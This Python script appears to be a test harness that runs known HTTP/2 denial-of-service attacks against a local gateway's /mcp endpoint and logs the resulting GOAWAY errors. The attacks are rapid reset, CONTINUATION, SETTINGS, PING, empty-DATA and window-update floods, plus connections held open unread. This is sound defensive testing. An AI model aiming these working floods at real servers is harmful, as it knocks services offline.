"""The hostile: HTTP/2 by the frame, one attack a run, on connections that are made anew as often as the gateway ends them. Tells how
much it did, and with which errors (GOAWAY) it was shown out, as JSON."""

import json
import select
import socket
import ssl
import sys
import time
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import Any

import frames

# Frames that are written at once.
BATCH = 100


class Ended(Exception):
    """The gateway has ended the connection."""


class Connection:
    """One, whose answers are read whenever there are some, unless nobody is to read them."""

    def __init__(self, plan: dict[str, Any], hello: bytes = b"", reads: bool = True) -> None:
        tls = ssl.create_default_context(cafile=plan["ca"])
        tls.set_alpn_protocols(["h2"])
        raw = socket.create_connection(("127.0.0.1", plan["port"]), timeout=10)
        self.socket = tls.wrap_socket(raw, server_hostname=plan["host"])
        self.socket.setblocking(False)
        self.plan, self.reads, self.goaway, self.answered, self.next = plan, reads, "", 0, 1
        self.ended, self._reader = False, frames.Reader()
        self.send(frames.PREFACE + (hello or frames.settings()))

    def send(self, data: bytes) -> None:
        """All of it, and reads in between: who does not read is not heard for long."""
        left = memoryview(data)
        while left and not self.ended:
            try:
                left = left[self.socket.send(left) :]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                select.select([self.socket] if self.reads else [], [self.socket], [], 1)
            except OSError:
                self.ended = True
            if self.reads:
                self.read()
        if self.ended:
            raise Ended

    def read(self) -> None:
        """What is there."""
        try:
            while data := self.socket.recv(65536):
                for kind, _, number, payload in self._reader.frames(data):
                    if kind == frames.HEADERS:
                        self.answered = max(self.answered, number)
                    if kind == frames.GOAWAY:
                        self.goaway = frames.error(kind, payload)
            self.ended = True
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return
        except OSError:
            self.ended = True

    def wait(self, seconds: float, until: Callable[[], bool] = lambda: False) -> None:
        """Reads until it ends, or that is so, or the time is over."""
        end = time.monotonic() + seconds
        while not self.ended and not until() and (left := end - time.monotonic()) > 0:
            select.select([self.socket], [], [], left)
            self.read()

    def stream(self) -> int:
        """The next number."""
        self.next += 2
        return self.next - 2

    def close(self, patience: float) -> str:
        """Waits so long for a last word, and tells it."""
        if not self.ended:
            self.wait(patience)
        self.socket.close()
        return self.goaway


def request(plan: dict[str, Any], ends: bool) -> bytes:
    """The header block of a normal, authenticated tool call."""
    pseudo = {":method": "POST", ":scheme": "https", ":authority": f"{plan['host']}:{plan['port']}", ":path": "/mcp"}
    return frames.block({**pseudo, **plan["headers"], **({"content-length": "0"} if ends else {})})


def rapid_reset(at: Connection) -> int:
    """Streams that are reset in the same breath (CVE-2023-44487)."""
    block = request(at.plan, ends=True)
    numbers = [at.stream() for _ in range(BATCH)]
    at.send(b"".join(frames.request(it, block) + frames.reset(it) for it in numbers))
    return BATCH


def late_reset(at: Connection) -> int:
    """Streams that are reset while they are answered, as clients do that change their mind: no fault."""
    block = request(at.plan, ends=True)
    numbers = [at.stream() for _ in range(BATCH // 2)]
    at.send(b"".join(frames.request(it, block) for it in numbers))
    at.wait(5, lambda: at.answered >= numbers[0])
    at.send(b"".join(map(frames.reset, numbers)))
    return len(numbers)


def continuation(at: Connection) -> int:
    """A head that never ends (CVE-2024-27316)."""
    number, piece = at.stream(), frames.block({"x-more": "y" * 1000})
    at.send(frames.frame(frames.HEADERS, 0, number, request(at.plan, ends=True)))
    for _ in range(BATCH):
        at.send(frames.frame(frames.CONTINUATION, 0, number, piece))
    return BATCH


def settings(at: Connection) -> int:
    """SETTINGS that each want an answer (CVE-2019-9515)."""
    at.send(frames.settings(window=65535) * BATCH)
    return BATCH


def ping(at: Connection) -> int:
    """PINGs that each want an answer (CVE-2019-9512)."""
    at.send(frames.frame(frames.PING, 0, 0, b"portcull") * BATCH)
    return BATCH


def empty_data(at: Connection) -> int:
    """A body of nothing, for ever (CVE-2019-9518)."""
    if at.next == 1:
        at.send(frames.request(at.stream(), request(at.plan, ends=False), ends=False))
    at.send(frames.frame(frames.DATA, 0, 1) * BATCH)
    return BATCH


def window_overflow(at: Connection) -> int:
    """More window than there can be."""
    at.send(frames.window(0, frames.MOST) * 2)
    at.wait(2)
    return 1


def window_zero(at: Connection) -> int:
    """A window update by nothing."""
    at.send(frames.window(0, 0))
    at.wait(2)
    return 1


def window_flood(at: Connection) -> int:
    """Window updates by one, for a connection that needs none."""
    at.send(frames.window(0, 1) * BATCH)
    return BATCH


ATTACKS: dict[str, Callable[[Connection], int]] = {
    it.__name__: it
    for it in [rapid_reset, late_reset, continuation, settings, ping, empty_data, window_overflow, window_zero, window_flood]
}


def unread(plan: dict[str, Any]) -> dict[str, Any]:
    """Requests whose answers nobody gives a window to, on connections that nobody reads; held until somebody asks."""
    block, held = request(plan, ends=True), []
    for _ in range(plan["operations"] // BATCH):
        held.append(Connection(plan, frames.settings(window=0), reads=False))
        held[-1].send(b"".join(frames.request(held[-1].stream(), block) for _ in range(BATCH)))
    print("held", flush=True)
    sys.stdin.readline()
    return {"operations": len(held) * BATCH, "connections": len(held), "goaway": {}}


def attack(plan: dict[str, Any]) -> dict[str, Any]:
    """One kind, so many times, or so long."""
    once, end = ATTACKS[plan["kind"]], time.monotonic() + plan["seconds"]
    operations, connections, words = 0, 0, Counter()
    while operations < plan["operations"] and time.monotonic() < end:
        at = Connection(plan)
        connections += 1
        try:
            while operations < plan["operations"] and time.monotonic() < end:
                operations += once(at)
            words[at.close(0.2)] += 1
        except Ended:
            words[at.close(1.0)] += 1
    return {"operations": operations, "connections": connections, "goaway": dict(words)}


if __name__ == "__main__":
    asked = json.loads(Path(sys.argv[1]).read_text())
    print(json.dumps(unread(asked) if asked["kind"] == "unread" else attack(asked)), flush=True)
